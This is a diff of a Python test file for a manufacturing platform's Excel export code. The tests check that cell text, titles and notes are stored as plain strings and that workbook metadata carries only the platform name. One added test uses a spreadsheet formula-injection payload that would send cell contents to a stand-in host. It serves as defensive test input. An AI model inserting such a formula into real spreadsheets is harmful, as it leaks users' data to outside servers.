@@ -6,6 +6,8 @@ import pytest
 from openpyxl import load_workbook
 
 from greenmfg.excel import write_table
+from greenmfg.excel.forms import Column, Tab, write_form
+from greenmfg.excel.printed import Sheet, Table, write_printed
 
 
 def sheet_of(content: bytes):
@@ -20,6 +22,21 @@ def test_attack_078_text_stays_text(text):
 
     assert cell.data_type == "s"
     assert cell.value == text
+
+
+def test_attack_078_text_of_a_printed_form_stays_text():
+    formula = '=HYPERLINK("http://x/?"&A1)'
+    table = Table(columns=[formula], rows=[[formula]], title=formula)
+    told = {name: [formula] for name in ("head", "lead", "closing", "signature")}
+    content = write_printed(
+        Sheet(title="名单", widths=[20], tables=[table], label=formula, note=formula, **told)
+    )
+    label, title, *cells = (row[0] for row in sheet_of(content).iter_rows())
+
+    assert title.value == "名单"
+    assert len(cells) == 8
+    for cell in (label, *cells):
+        assert (cell.value, cell.data_type, cell.number_format) == (formula, "s", "@")
 
 
 def test_numbers_and_dates_stay_what_they_are():
@@ -42,7 +59,20 @@ def test_characters_no_workbook_takes_are_left_out():
     assert sheet_of(write_table(title="表", head=["x"], rows=[["甲\x00\x0b乙"]]))["A2"].value == "甲乙"
 
 
-def test_attack_080_the_file_tells_the_platform_made_it():
-    book = load_workbook(BytesIO(write_table(title="表", head=["x"], rows=[])))
+@pytest.mark.parametrize(
+    "content",
+    [
+        write_table(title="表", head=["x"], rows=[]),
+        write_printed(Sheet(title="表", widths=[9], tables=[])),
+        write_form(
+            tabs=[Tab(name="表", title="", lead="", columns=[Column(title="x")], rows=[])], mark={}, footer=""
+        ),
+    ],
+    ids=["table", "printed", "form"],
+)
+def test_attack_080_the_file_tells_the_platform_made_it_and_nothing_else(content):
+    book = load_workbook(BytesIO(content))
 
     assert book.properties.creator == "绿色制造体系申报评价平台"
+    told = book.properties
+    assert not any((told.lastModifiedBy, told.title, told.subject, told.description, told.keywords))
